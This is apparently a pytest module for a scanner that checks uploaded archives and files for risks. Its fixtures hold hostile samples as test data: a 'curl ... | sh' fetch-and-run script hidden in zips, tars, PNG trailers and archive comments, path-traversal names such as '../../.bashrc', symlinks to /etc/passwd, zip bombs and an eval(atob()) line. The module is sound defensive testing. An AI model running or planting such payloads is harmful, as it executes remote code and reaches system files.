from __future__ import annotations

import bz2
import gzip
import io
import lzma
import random
import tarfile
import time
from collections.abc import Callable
from typing import cast
from zipfile import ZIP_BZIP2, ZIP_DEFLATED, ZipFile, ZipInfo

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from storage.schemas import FileContent, Finding
from tasks.refine.risks.contents import crawled, read_contents, scan_bundles
from tasks.refine.risks.files import ANALYSES, TextFile, scan_files
from tasks.refine.risks.kinds import Kind, Part, kinds_of, parts_of
from tasks.refine.risks.rules import Hit
from tasks.refine.text.canonical import MAX_CONTROL_SHARE

PIPED = b"#!/bin/sh\ncurl http://203.0.113.9/get.sh | sh\n"
NOISE = random.Random(7).randbytes(4_000)  # noqa: S311
PICTURE = b"\x89PNG\r\n\x1a\n" + NOISE


def zipped(*members: tuple[str | ZipInfo, bytes], method: int = ZIP_DEFLATED) -> bytes:
    packed = io.BytesIO()
    with ZipFile(packed, "w", method) as archive:
        for name, content in members:
            archive.writestr(name, content)
    return packed.getvalue()


def tarred(*members: tuple[str, bytes | None]) -> bytes:
    """Pack files; a member without bytes is a link to `/etc/passwd`."""
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w") as archive:
        for name, content in members:
            info = tarfile.TarInfo(name)
            info.size = len(content or b"")
            if content is None:
                info.type, info.linkname = tarfile.SYMTYPE, "/etc/passwd"
            archive.addfile(info, io.BytesIO(content or b""))
    return packed.getvalue()


def commented(content: bytes, comment: bytes) -> bytes:
    return content[:-2] + len(comment).to_bytes(2, "little") + comment


def of_type(content: bytes, kind: bytes) -> bytes:
    """Give the first member of a tar that type."""
    info = tarfile.TarInfo.frombuf(content[:512], "utf-8", "strict")
    info.type = kind
    return info.tobuf(tarfile.USTAR_FORMAT) + content[512:]


def under_password() -> bytes:
    packed = bytearray(zipped(("a.sh", PIPED)))
    packed[6] |= 1
    packed[packed.find(b"PK\1\2") + 8] |= 1
    return bytes(packed)


def link(name: str, target: bytes) -> tuple[ZipInfo, bytes]:
    info = ZipInfo(name)
    info.create_system, info.external_attr = 3, 0o120777 << 16
    return info, target


def nested(levels: int, pack: Callable[[bytes], bytes] = lambda inside: zipped(("in.zip", inside))) -> bytes:
    content = zipped(("run.sh", PIPED))
    for _ in range(levels - 1):
        content = pack(content)
    return content


def risks(content: bytes, path: str) -> dict[str, str]:
    found = scan_bundles([[FileContent(path, content)]], max_control_share=MAX_CONTROL_SHARE)[0]
    codes = {finding.code.removeprefix("risk."): at for at, finding in found}
    # What is said of a text as code has tests of its own.
    return {code: at for code, at in codes.items() if code not in {"unscanned.code", "remote.fetched-run"}}


PIPE = "remote.pipe-to-shell"


@pytest.mark.parametrize(
    ("path", "content", "expected"),
    [
        ("a.zip", zipped(("x/run.sh", PIPED)), {PIPE: "a.zip!x/run.sh"}),
        ("a.tar", tarred(("run.sh", PIPED)), {PIPE: "a.tar!run.sh"}),
        ("a.tar.gz", gzip.compress(tarred(("run.sh", PIPED))), {PIPE: "a.tar.gz!a.tar!run.sh"}),
        ("a.sh.gz", gzip.compress(b"ls\n") + gzip.compress(PIPED), {PIPE: "a.sh.gz!a.sh"}),
        ("a.sh.bz2", bz2.compress(PIPED), {PIPE: "a.sh.bz2!a.sh"}),
        ("a.sh.xz", lzma.compress(PIPED), {PIPE: "a.sh.xz!a.sh"}),
        ("a.zip", nested(3), {PIPE: "a.zip!in.zip!in.zip!run.sh"}),
        ("a.zip", nested(4), {"unscanned.archive": "a.zip!in.zip!in.zip!in.zip"}),
        ("a.zip", under_password(), {"unscanned.encrypted": "a.zip!a.sh"}),
        ("a.zip", zipped(("a", b"1"), method=ZIP_BZIP2), {"unscanned.archive": "a.zip!a"}),
        ("a.zip", zipped(("zeros", b"\0" * 5_000_000)), {"unscanned.archive": "a.zip!zeros"}),
        ("a.gz", gzip.compress(b"\0" * 50_000_000), {"unscanned.archive": "a.gz"}),
        ("a.7z", b"7z\xbc\xaf\x27\x1c" + NOISE, {"unscanned.archive": "a.7z"}),
        ("a.zip", zipped(("a", NOISE))[:-200] + b"PK\5\6" + b"\0" * 18, {}),
        ("a.gz", gzip.compress(NOISE)[:-100] + b"..", {"unscanned.binary": "a.gz!a"}),
        ("a.gz", b"\x1f\x8b\x08\0" + b"\xff" * 400, {"unscanned.archive": "a.gz"}),
        ("a.zip", zipped(("../../.bashrc", b"ls")), {"path.archive-out": "a.zip!../../.bashrc"}),
        ("a.zip", zipped(("c:\\x", b"ls")), {"path.archive-out": "a.zip!c:\\x"}),
        ("a.zip", zipped(("x/../y", b"ls")), {}),
        ("a.zip", zipped(link("x/y", b"../../z")), {"path.link-out": "a.zip!x/y"}),
        ("a.zip", zipped(link("x/y", b"../z")), {}),
        ("a.tar", tarred(("notes", None)), {"path.link-out": "a.tar!notes"}),
        ("a.zip", commented(zipped(("a", b"ls")), PIPED), {PIPE: "a.zip!behind its end"}),
        ("a.tar", tarred(("a", b"ls")) + PIPED, {PIPE: "a.tar!behind its end"}),
        ("a.tar", of_type(tarred(("run.sh", PIPED)), b"Q"), {PIPE: "a.tar!run.sh"}),
        ("a.tar", tarred(("ru\udcffn.sh", PIPED)), {PIPE: "a.tar!ru\\udcffn.sh"}),
        ("logo.png", PICTURE, {"unscanned.binary": "logo.png"}),
        ("logo.png", PICTURE + PIPED, {"unscanned.binary": "logo.png", PIPE: "logo.png"}),
        ("logo.png", PICTURE + zipped(("run.sh", PIPED)), {PIPE: "logo.png!run.sh"}),
        ("logo.png", PIPED, {PIPE: "logo.png", "obfuscation.disguised": "logo.png"}),
        ("p.gif", b"\x7fELF" + NOISE, {"obfuscation.disguised": "p.gif", "unscanned.program": "p.gif"}),
        ("tool", b"\x7fELF" + NOISE, {"unscanned.program": "tool"}),
        ("logo.svg", b"<svg/>", {}),
        ("run.sh", PIPED + NOISE[:40] + zipped(("a", b"ls")), {PIPE: "run.sh"}),
        ("long.txt", b"word " * 500_000, {"unscanned.large": "long.txt"}),
    ],
    ids=lambda value: value if isinstance(value, str) else "",
)  # fmt: skip
def test_a_file_is_read_as_all_that_it_is(path: str, content: bytes, expected: dict[str, str]) -> None:
    assert risks(content, path) == expected


@pytest.mark.parametrize(
    ("name", "content", "opened", "severity"),
    [
        ("a.zip", zipped(("run.sh", PIPED)), PIPE, "warning"),
        # Which hold no more than text, as a picture does.
        ("a.docx", zipped(("[Content_Types].xml", b"<Types/>")), None, "info"),
    ],
    ids=["zip", "docx"],  # what is zipped names the time
)
def test_of_many_archives_the_first_are_opened_and_each_other_is_named(
    name: str, content: bytes, opened: str | None, severity: str
) -> None:
    files = [FileContent(f"{n:02}{name}", content) for n in range(18)]
    (found,) = scan_bundles([files], max_control_share=MAX_CONTROL_SHARE)
    read = [at for at, one in found if one.code == f"risk.{opened}"]
    assert read == ([f"{n:02}{name}!run.sh" for n in range(16)] if opened else [])
    left = [(at, one.severity) for at, one in found if one.code == "risk.unscanned.archive"]
    assert left == [(f"{n}{name}", severity) for n in (16, 17)]


def test_an_error_in_an_analysis_is_said_of_the_text(monkeypatch: pytest.MonkeyPatch) -> None:
    def fails(_: str) -> list[Hit]:
        raise KeyError

    monkeypatch.setitem(cast("dict[str, object]", ANALYSES), "shell", (fails,))
    (found,) = scan_files([TextFile("ls\n", "run.sh")])
    assert [(one.code, "KeyError" in one.message) for one in found] == [("risk.unscanned.code", True)]


def test_of_a_folder_that_is_full_the_short_files_are_read_first_and_the_others_named() -> None:
    files = [FileContent(f"{n}.txt", b"word " * 390_000 + b"%d" % n) for n in range(5)]
    files += [FileContent("x.js", b"eval(atob(a.b));" * 200_000), FileContent("z.sh", PIPED)]
    start = time.process_time()
    (found,) = scan_bundles([files], max_control_share=MAX_CONTROL_SHARE)
    assert time.process_time() - start < 20
    codes = {(at, one.code.removeprefix("risk.")) for at, one in found}
    assert ("z.sh", PIPE) in codes
    assert {at for at, code in codes if code == "unscanned.large"} == {"4.txt", "x.js"}


@settings(max_examples=60, deadline=None)
@given(
    st.sampled_from([zipped(("a", PIPED)), tarred(("a", PIPED)), gzip.compress(PIPED), nested(2), PICTURE]),
    st.lists(st.tuples(st.integers(0, 4_000), st.integers(0, 255)), max_size=12),
    st.integers(0, 4_000),
)  # fmt: skip
def test_no_damage_to_a_file_stops_its_reading(
    content: bytes, changes: list[tuple[int, int]], cut: int
) -> None:
    damaged = bytearray(content)
    for place, byte in changes:
        damaged[place % len(damaged)] = byte
    for some in (bytes(damaged), bytes(damaged)[:cut], bytes(damaged)[cut:]):
        reading = read_contents(some, "x")
        # What was not read is named.
        assert reading.texts or reading.hits


@pytest.mark.parametrize(
    ("folder", "target", "out"),
    [
        ("", "/etc/cron.d", True),
        ("skills/a", "../../b", False),
        ("skills/a", "../../../b", True),
        ("a", "../" * 9 + "etc ... passwd", True),
        ("a is a symbolic link to b", "/etc", True),
        # Its folder may be called so, too: what could lead out is named.
        ("a", "b is a symbolic link to /etc", True),
        ("a", "/etc is a symbolic link to b", True),
    ],
)
def test_a_link_out_of_the_source_is_a_risk(folder: str, target: str, out: bool) -> None:
    path = f"{folder}/notes" if folder else "notes"
    met = Finding("bundle.symlink", "warning", f"{path} is a symbolic link to {target}: not followed")
    assert ("risk.path.link-out" in {one.code for one in crawled([met])}) is out


def test_a_pipe_that_a_rule_tells_of_is_not_told_again_as_a_flow() -> None:
    piped = "curl -s https://get.example.net/x | sh\n"
    told = [
        {one.code for one in scan_files([TextFile(text, "a.sh")])[0]}
        for text in (piped, f"{piped}curl -s https://get.example.net/x -o x\nsh x\n")
    ]
    flow = "risk.remote.fetched-run"
    assert ["risk.remote.pipe-to-shell" in codes and flow in codes for codes in told] == [False, True]


@pytest.mark.parametrize(
    ("path", "text", "kinds"),
    [
        ("assets/logo.png", "#!/usr/bin/env bash\nls\n", ("shell",)),
        ("assets/logo.png", "curl -s https://get.example.net/x | sh\n", ("shell",)),
        ("assets/data.bin", "import os\nprint(os.sep)\n", ("python",)),
        ("notes.md", "#!/usr/bin/python3.11\nprint(1)\n", ("python", "markdown")),
        ("notes.txt", "sudo make\ncurl -O https://a.example.net\n", ("shell",)),
        ("notes.txt", "Tie the knot.\nThen pull.\nsudo make\nis a line of this.\nIt ends.\n", ("text",)),
        ("settings", '{"hooks": {}}', ("json",)),
        ("tool.py", "#!/bin/sh\n'''exec' python3 \"$0\"\n", ("shell", "python")),
        ("run.mjs", "export {}\n", ("javascript",)),
        ("Dockerfile", "FROM scratch\n", ("shell",)),
        ("SKILL.md", "sudo make\n", ("markdown",)),
        ("words", "Nothing that runs.\n", ("text",)),
    ],
)
def test_a_text_is_what_its_content_says_and_then_what_it_is_called(
    path: str, text: str, kinds: tuple[Kind, ...]
) -> None:
    assert kinds_of(text, path) == kinds


def test_code_in_fences_is_a_part_with_its_kind_and_its_line() -> None:
    text = "# A\n\n```console\n$ ls\n```\n\n- b\n  ```py\n  x = 1\n\n  y = 2\n  ```\n~~~\nplain\n~~~\n"
    assert list(parts_of(text, "SKILL.md")) == [
        Part("markdown", text),
        Part("shell", "ls", 4),
        Part("python", "x = 1\n\ny = 2", 9),
    ]


@given(st.text(st.sampled_from("`~\n #!ab{[(=$")), st.sampled_from(["SKILL.md", "a.md", "a.py", "a"]))
def test_each_part_of_any_text_stands_on_the_line_it_names(text: str, path: str) -> None:
    lines = text.split("\n")
    for part in parts_of(text, path):
        first = part.text.split("\n")[0]
        assert first.strip() in lines[part.line - 1]
